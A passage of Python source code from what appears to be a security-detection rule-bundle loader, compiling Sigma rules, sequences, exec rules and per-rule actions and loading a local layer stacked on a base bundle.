        except QueryError as exc:
            loader.errors.append(f"{where}: macro {name!r}: {exc}")
    sigma_rules, sigma_disabled = loader.sigma(sigma_rules)
    disabled |= sigma_disabled
    known: dict[str, CompiledRule] = {}
    for r in sigma_rules:
        known[r.name] = r
        if r.extra.get("sigma_id"):
            known[r.extra["sigma_id"]] = r
    known.update({r.name: r for r in rules})
    for name, seq in loader.sequences.items():
        known[name] = next(r for r in rules if getattr(r, "sequence", None) is seq)
    tests = loader.tests(known, disabled)
    exec_rules = loader.exec_rules()
    for er in exec_rules:
        if er.name in known or er.name in seen:
            loader.errors.append(f"{er.source}: rule {er.name!r}: the name of another rule "
                                 "(response.kill_rules names rules by their names)")
    if len({er.name for er in exec_rules}) != len(exec_rules):
        loader.errors.append(f"{loader.source}/enforce.yaml: exec rule names must be unique")
    if loader.errors:
        raise BundleError(loader.errors)
    actions = {r.name: r.action for r in (*rules, *sigma_rules) if r.action}
    actions.update({f"risky_process:{rp.name}": rp.action
                    for rp in static.risky_processes.values() if rp.action})
    actions.update({sf.glob: sf.action for sf in static.sensitive_files if sf.action})
    actions.update({name: seq.action for name, seq in loader.sequences.items() if seq.action})
    actions.update(loader.ioc_actions)
    return Bundle(manifest=manifest, static=static,
                  ruleset=IndexedRuleSet([*rules, *sigma_rules]),
                  digest=content_digest(files), source=loader.source,
                  unsupported=loader.unsupported, tests=tests, local=layer, actions=actions,
                  exec_rules=tuple(exec_rules))


def manifest_of(files: Files) -> dict[str, Any]:
    """The manifest's mapping as written (empty when unreadable): to tell a local layer from a
    base before compiling either."""
    try:
        doc = load_yaml(files.get("manifest.yaml", b""), "manifest.yaml")
    except BundleError:
        return {}
    return doc if isinstance(doc, dict) else {}


def is_local_layer(files: Files) -> bool:
    return manifest_of(files).get("layer") == LOCAL


def load_bundle(path: str | Path, local: str | Path | None = None) -> Bundle:
    """Load and compile the bundle directory or archive at ``path``, with the local layer at
    ``local`` stacked on it when given."""
    files, _ = read_files(path)
    if local is None:
        return load_files(files, str(path))
    local_files, _ = read_files(local)
    return load_stack(files, str(path), local_files, str(local))


__all__ = ["BundleError", "complete_event", "is_local_layer", "load_bundle", "load_files",
           "load_stack"]
